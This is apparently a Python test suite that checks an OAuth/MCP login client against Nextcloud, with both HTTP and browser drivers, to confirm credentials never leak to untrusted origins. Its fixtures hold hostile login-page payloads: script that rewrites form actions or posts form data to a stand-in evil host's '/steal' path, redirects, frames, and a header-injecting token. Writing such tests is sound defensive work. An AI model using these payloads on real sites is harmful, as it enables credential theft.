"""A credential goes only where the person sent it, whatever servers and pages say: with both drivers."""

from __future__ import annotations

import ssl
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from urllib.parse import urlencode

import httpx
import pytest
import trio

from actors.errors import SetupError
from actors.login.browser_driver import find_browser, open_browser_driver
from actors.login.client import register
from actors.login.driver import Driver
from actors.login.http_driver import HttpDriver
from actors.login.oauth import OAuthLogin
from actors.login.plan import discover
from actors.login.trust import Trust
from actors.ports import Person
from actors.secret import Secret
from tests.support.false_world import (
    CODE,
    PASSWORD,
    SESSION,
    WELL_KNOWN,
    World,
    as_json,
    login_form,
    metadata,
    open_world,
    page,
)
from tests.support.over_the_wire import NoJournal
from tests.support.recording import Said, Seen, moved

DRIVERS = [pytest.param("http", id="http"), pytest.param("browser", id="browser", marks=pytest.mark.browser)]
ANN = Person("ann", Secret(PASSWORD))
CALLBACK = "http://127.0.0.1:33418/callback"


@pytest.fixture
def world() -> Iterator[World]:
    with open_world() as servers:
        yield servers


@asynccontextmanager
async def open_driver(kind: str, trust: Trust) -> AsyncIterator[Driver]:
    if kind == "http":
        yield HttpDriver(ssl.create_default_context(), trust)
        return
    browser = find_browser("chromium")
    assert browser is not None
    async with open_browser_driver(browser, trust, headed=False, concurrency=1, screenshots=None) as driver:
        yield driver


async def log_in(world: World, kind: str, trust: Trust | None = None) -> str:
    """The whole way of a user into the MCP server; what they show it in the end."""
    trust = trust or world.trust
    with trio.fail_after(60):
        async with httpx.AsyncClient() as http, open_driver(kind, trust) as driver:
            plan = await discover(http, world.mcp_url, world.nextcloud.url, trust)
            assert plan is not None
            client = await register(http, plan, NoJournal(), "sim-test")
            tokens = await OAuthLogin(http, plan, client, driver, lambda fact: None).log_in(ANN)
            return await tokens.authorization()


def only(error: BaseException) -> BaseException:
    while isinstance(error, BaseExceptionGroup):
        [error] = error.exceptions
    return error


@pytest.mark.parametrize("kind", DRIVERS)
async def test_where_nobody_means_ill_the_login_succeeds(world: World, kind: str) -> None:
    assert await log_in(world, kind) == "Bearer an.access-token"
    assert world.leaks("ann") == []


@pytest.mark.parametrize("kind", DRIVERS)
async def test_an_mcp_server_that_is_the_authorization_server_sends_users_to_nextcloud_for_the_password(
    world: World, kind: str
) -> None:
    """As nextcloud-mcp-server does in its login-flow mode: its own client, codes and tokens."""
    world.serve(world.mcp)
    world.point_mcp_at(world.mcp.url)
    asked: list[Seen] = []

    def authorize(seen: Seen) -> Said:
        asked.append(seen)
        ours = {"redirect_uri": f"{world.mcp.url}/oauth/callback", "state": "the-servers"}
        return moved(f"{world.nextcloud.url}/authorize?{urlencode(ours)}")

    def callback(seen: Seen) -> Said:
        query = {"code": "the-servers-own", "state": asked[-1].query["state"]}
        return moved(f"{asked[-1].query['redirect_uri']}?{urlencode(query)}")

    world.mcp.on("/authorize", authorize)
    world.mcp.on("/oauth/callback", callback)
    assert (await log_in(world, kind)).startswith("Bearer ")
    assert PASSWORD.split()[0] not in world.mcp.received
    if kind == "http":
        # Not even the session's cookie, though it is the same host: another port is another origin.
        assert SESSION not in world.mcp.received


@pytest.mark.parametrize("kind", DRIVERS)
async def test_another_origin_takes_passwords_once_the_person_said_so(world: World, kind: str) -> None:
    world.nextcloud.on(
        "/authorize", lambda seen: moved(f"{world.evil.url}/authorize?{urlencode(seen.query)}")
    )
    trust = Trust(world.nextcloud.url, world.mcp_url, (world.evil.url,))
    assert await log_in(world, kind, trust) == "Bearer an.access-token"


Attack = Callable[[World], None]


def other_authorization_server(world: World) -> None:
    world.point_mcp_at(world.evil.url)


def login_page_of_its_own(world: World) -> None:
    world.serve(world.mcp)
    world.point_mcp_at(world.mcp.url)


def another_issuer(world: World) -> None:
    world.serve(world.mcp, issuer=world.nextcloud.url)
    world.point_mcp_at(world.mcp.url)


def endpoint_elsewhere(name: str) -> Attack:
    def attack(world: World) -> None:
        world.nextcloud.on(WELL_KNOWN, metadata(world.nextcloud.url, **{name: f"{world.evil.url}/x"}))

    attack.__name__ = f"{name}_elsewhere"
    return attack


def mixed_up_servers(world: World) -> None:
    """Nextcloud's codes and client for the token endpoint of the MCP server (RFC 9700, 4.4)."""
    world.serve(world.mcp)
    theirs = {
        "authorization_endpoint": f"{world.nextcloud.url}/authorize",
        "registration_endpoint": f"{world.nextcloud.url}/register",
    }
    world.mcp.on(WELL_KNOWN, metadata(world.mcp.url, **theirs))
    world.point_mcp_at(world.mcp.url)


def another_resource(world: World) -> None:
    world.point_mcp_at(world.nextcloud.url, resource=f"{world.evil.url}/mcp")


def metadata_that_redirects(world: World) -> None:
    world.nextcloud.on(WELL_KNOWN, moved(f"{world.evil.url}{WELL_KNOWN}", 302))
    world.evil.on(WELL_KNOWN, metadata(world.nextcloud.url, token_endpoint=f"{world.evil.url}/token"))


def authorization_that_redirects(world: World) -> None:
    world.serve(world.mcp)
    world.point_mcp_at(world.mcp.url)
    world.mcp.on("/authorize", moved(f"{world.evil.url}/login"))


def login_page_that_redirects(world: World) -> None:
    world.nextcloud.on("/login", moved("/one"))
    world.nextcloud.on("/one", moved(f"{world.evil.url}/login", 302))


def login_page(content: Callable[[World], str], head: Callable[[World], str] = lambda world: "") -> Attack:
    def attack(world: World) -> None:
        world.nextcloud.on("/login", page(content(world), head(world)))

    return attack


def form_answered_by(status: int, where: Callable[[World], str]) -> Attack:
    def attack(world: World) -> None:
        def login(seen: Seen) -> Said:
            return page(login_form()) if seen.method == "GET" else moved(where(world), status)

        world.nextcloud.on("/login", login)

    return attack


def callback_at(url: str) -> Attack:
    def attack(world: World) -> None:
        def authorize(seen: Seen) -> Said:
            if SESSION not in seen.headers.get("cookie", ""):
                return moved("/login")
            return moved(f"{url.replace('EVIL', world.evil.url)}?code={CODE}&state={seen.query['state']}")

        def login(seen: Seen) -> Said:
            if seen.method == "GET":
                return page(login_form())
            asked = next(one for one in world.nextcloud.seen if one.path == "/authorize")
            return moved(f"/authorize?{urlencode(asked.query)}", 303, f"session={SESSION}; Path=/")

        world.nextcloud.on("/authorize", authorize)
        world.nextcloud.on("/login", login)

    return attack


def client_managed_elsewhere(world: World) -> None:
    answer = {
        "client_id": "c-1",
        "registration_access_token": "nextcloud-registration-token",
        "registration_client_uri": f"{world.evil.url}/register/c-1",
    }
    world.nextcloud.on("/register", as_json(answer, 201))


def another_state(world: World) -> None:
    world.nextcloud.on("/authorize", moved(f"{CALLBACK}?code={CODE}&state=another"))


def token_with(text: str) -> Attack:
    def attack(world: World) -> None:
        world.nextcloud.on("/token", as_json({"access_token": text, "token_type": "Bearer"}))

    return attack


def refreshing(world: World) -> str:
    return f'<meta http-equiv="refresh" content="0; url={world.evil.url}/login">'


def scripted(world: World) -> str:
    return f"<script>location.href = '{world.evil.url}/login'</script>"


def late_action(world: World) -> str:
    return (
        f"{login_form()}<script>document.forms[0].password.addEventListener('input', () => "
        f"document.forms[0].setAttribute('action', '{world.evil.url}/login'))</script>"
    )


def submitted_elsewhere(world: World) -> str:
    return (
        f"{login_form()}<script>document.forms[0].addEventListener('submit', () => "
        f"document.forms[0].setAttribute('action', '{world.evil.url}/login'))</script>"
    )


def sent_by_script(world: World) -> str:
    return (
        f"{login_form()}<script>document.forms[0].addEventListener('submit', (event) => {{"
        f"event.preventDefault(); fetch('{world.evil.url}/steal', {{method: 'POST', mode: 'no-cors', "
        "body: new URLSearchParams(new FormData(document.forms[0]))})})</script>"
    )


ATTACKS: dict[str, Attack] = {
    "another authorization server": other_authorization_server,
    "a login page at the MCP server": login_page_of_its_own,
    "an issuer that is somebody else": another_issuer,
    "authorization endpoint elsewhere": endpoint_elsewhere("authorization_endpoint"),
    "token endpoint elsewhere": endpoint_elsewhere("token_endpoint"),
    "registration endpoint elsewhere": endpoint_elsewhere("registration_endpoint"),
    "codes of one server for another": mixed_up_servers,
    "tokens for another resource": another_resource,
    "metadata from elsewhere": metadata_that_redirects,
    "authorization that leads elsewhere": authorization_that_redirects,
    "a login page that leads elsewhere": login_page_that_redirects,
    "form action": login_page(lambda world: login_form(f"{world.evil.url}/login")),
    "form action at the MCP server": login_page(lambda world: login_form(f"{world.mcp.url}/login")),
    "form action relative to a base": login_page(
        lambda world: login_form("login"), lambda world: f'<base href="{world.evil.url}/">'
    ),
    "form in a frame": login_page(lambda world: f'<iframe src="{world.evil.url}/login"></iframe>'),
    "meta refresh": login_page(lambda world: "", refreshing),
    "a script that goes elsewhere": login_page(scripted),
    "form sent on (307)": form_answered_by(307, lambda world: f"{world.evil.url}/login"),
    "form sent on (308)": form_answered_by(308, lambda world: f"{world.mcp.url}/login"),
    "open redirect after the login": form_answered_by(303, lambda world: f"{world.evil.url}/login"),
    "callback with a longer path": callback_at(f"{CALLBACK}EVIL"),
    "callback at another port": callback_at("http://127.0.0.1:33419/callback"),
    "callback at another host": callback_at("EVIL/callback"),
    "client managed elsewhere": client_managed_elsewhere,
    "an answer for another login": another_state,
    "a token with a line break": token_with("abc\r\nX-Evil: 1"),
    "a token with a blank": token_with("abc def"),
    "a token beyond ASCII": token_with("abc\u2028def"),
}
IN_A_BROWSER: dict[str, Attack] = {
    "formaction": login_page(lambda world: login_form(button=f'formaction="{world.evil.url}/login"')),
    "another window": login_page(lambda world: login_form(more='target="_blank"')),
    "password in the address": login_page(lambda world: login_form(method="get")),
    "an action that changes while typing": login_page(late_action),
    "an action that changes when sent": login_page(submitted_elsewhere),
    "sent by a script": login_page(sent_by_script),
    "an input over the action": login_page(
        lambda world: login_form(f"{world.evil.url}/login").replace(
            "<input", '<input name="action"><input', 1
        )
    ),
    "a frame of its own with the form": login_page(
        lambda world: f'<iframe srcdoc="{login_form(world.evil.url).replace(chr(34), "&quot;")}"></iframe>'
    ),
}
CASES = [
    *(pytest.param("http", attack, id=f"{name}, http") for name, attack in ATTACKS.items()),
    *(
        pytest.param("browser", attack, id=f"{name}, browser", marks=pytest.mark.browser)
        for name, attack in {**ATTACKS, **IN_A_BROWSER}.items()
    ),
]


@pytest.mark.parametrize(("kind", "attack"), CASES)
async def test_no_secret_leaves_for_anywhere_that_the_person_did_not_name(
    world: World, kind: str, attack: Attack, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("actors.login.browser_visit.PAGE_S", 3.0)
    attack(world)
    with pytest.raises((SetupError, BaseExceptionGroup)) as failed:
        await log_in(world, kind)
    error = only(failed.value)
    assert isinstance(error, SetupError)
    assert "\n" not in str(error)
    assert PASSWORD not in str(error)
    assert world.leaks("ann") == []


@pytest.mark.parametrize("kind", DRIVERS)
async def test_whoever_is_refused_says_what_to_say_if_it_is_right(world: World, kind: str) -> None:
    login_page_that_redirects(world)
    with pytest.raises((SetupError, BaseExceptionGroup)) as failed:
        await log_in(world, kind)
    assert f"--login-origin {world.evil.url}" in str(only(failed.value))


@pytest.mark.parametrize("kind", DRIVERS)
async def test_access_is_granted_on_no_page_but_nextclouds(world: World, kind: str) -> None:
    for url in (f"{world.evil.url}/login/v2/flow/x", f"{world.mcp.url}/login/v2/flow/x"):
        with trio.fail_after(60), pytest.raises((SetupError, BaseExceptionGroup)):
            async with open_driver(kind, world.trust) as driver:
                await driver.grant(ANN, url)
    assert world.evil.seen == world.mcp.seen == []
